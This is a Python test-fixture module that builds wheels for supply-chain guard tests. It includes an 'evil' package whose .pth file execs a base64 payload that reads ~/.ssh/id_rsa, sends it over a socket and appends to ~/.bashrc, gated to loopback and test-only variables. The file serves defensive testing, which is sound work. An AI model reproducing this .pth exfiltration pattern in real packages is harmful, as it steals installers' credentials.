"""Inert fixture packages for the guard tests, built as real wheels and installed with pip.

The "malicious" package copies litellm 1.82.8's shape: a `.pth` whose import line execs a
base64 blob. The blob is INERT: it does nothing unless GUARD_FIXTURE_PORT is set (only these
tests set it), reads a fake key under the temporary HOME the test sets, starts `python -S -c pass`,
connects to a loopback server the test started, and sets GUARD_FIXTURE_CHILD before anything else
so no child interpreter runs it again (no fork bomb).
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import socket
import threading
import zipfile
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path

PAYLOAD = """
import os, socket, subprocess, sys
port = os.environ.get("GUARD_FIXTURE_PORT")
if port and not os.environ.get("GUARD_FIXTURE_CHILD"):
    os.environ["GUARD_FIXTURE_CHILD"] = "1"
    key = b"no key"
    try:
        with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as f:
            key = f.read()
    except OSError:
        pass
    try:
        subprocess.run([sys.executable, "-S", "-c", "pass"], check=False)
    except OSError:
        pass
    try:
        sys.addaudithook(lambda event, args: None)
    except Exception:
        pass
    try:
        with socket.create_connection(("127.0.0.1", int(port)), timeout=5) as s:
            s.sendall(key)
    except OSError:
        pass
    try:
        with open(os.path.expanduser("~/.bashrc"), "a") as f:
            f.write("pwned\\n")
    except OSError:
        pass
"""
EVIL_PTH = "import base64; exec(base64.b64decode('" + base64.b64encode(PAYLOAD.encode()).decode() + "'))\n"

BENIGN_INIT = """
import socket


def ping(port: int) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(b"hello from benignnet")
"""


def _digest(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def wheel(directory: Path, name: str, version: str, files: Mapping[str, str]) -> Path:
    """A pure-Python wheel of `files` (path -> text) with METADATA, WHEEL and RECORD."""
    dist_info = f"{name}-{version}.dist-info"
    contents = {path: text.encode() for path, text in files.items()}
    contents[f"{dist_info}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode()
    contents[f"{dist_info}/WHEEL"] = (
        b"Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    )
    record = io.StringIO()
    writer = csv.writer(record, lineterminator="\n")
    for path, data in contents.items():
        writer.writerow([path, _digest(data), len(data)])
    writer.writerow([f"{dist_info}/RECORD", "", ""])
    contents[f"{dist_info}/RECORD"] = record.getvalue().encode()
    target = directory / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(target, "w") as archive:
        for path, data in contents.items():
            archive.writestr(path, data)
    return target


def evil_wheel(directory: Path) -> Path:
    return wheel(directory, "evilpkg", "1.0", {"evilpkg_init.pth": EVIL_PTH, "evilpkg/__init__.py": ""})


def benign_wheel(directory: Path) -> Path:
    return wheel(directory, "benignnet", "2.0", {"benignnet/__init__.py": BENIGN_INIT})


HELPER_INIT = """
import os
import socket


def call(function, *args):
    return function(*args)


def compile_many(n):
    for i in range(n):
        exec(compile("x = 1", f"<generated {i}>", "exec"))  # one code location, a new name each time


def compile_once():
    exec(compile("y = 2", "<other>", "exec"))  # a second location


def send_datagram(port, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendmsg([data], [], 0, ("127.0.0.1", port))


def truncate(path):
    os.truncate(path, 0)


def append(path, text):
    with open(path, "a") as f:
        f.write(text)


def read(path):
    with open(path, "rb") as f:
        return f.read()
"""


def helper_wheel(directory: Path) -> Path:
    """helperpkg: calls what it is given, builds code from strings, sends, truncates, writes, reads."""
    return wheel(directory, "helperpkg", "1.0", {"helperpkg/__init__.py": HELPER_INIT})


class Sink:
    """A loopback TCP server that records every byte it receives."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port: int = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(5)
                chunks = []
                while True:
                    try:
                        data = conn.recv(65536)
                    except OSError:
                        break
                    if not data:
                        break
                    chunks.append(data)
                self.received.append(b"".join(chunks))

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.sock.close()


@contextmanager
def sink() -> Iterator[Sink]:
    server = Sink()
    try:
        yield server
    finally:
        server.close()
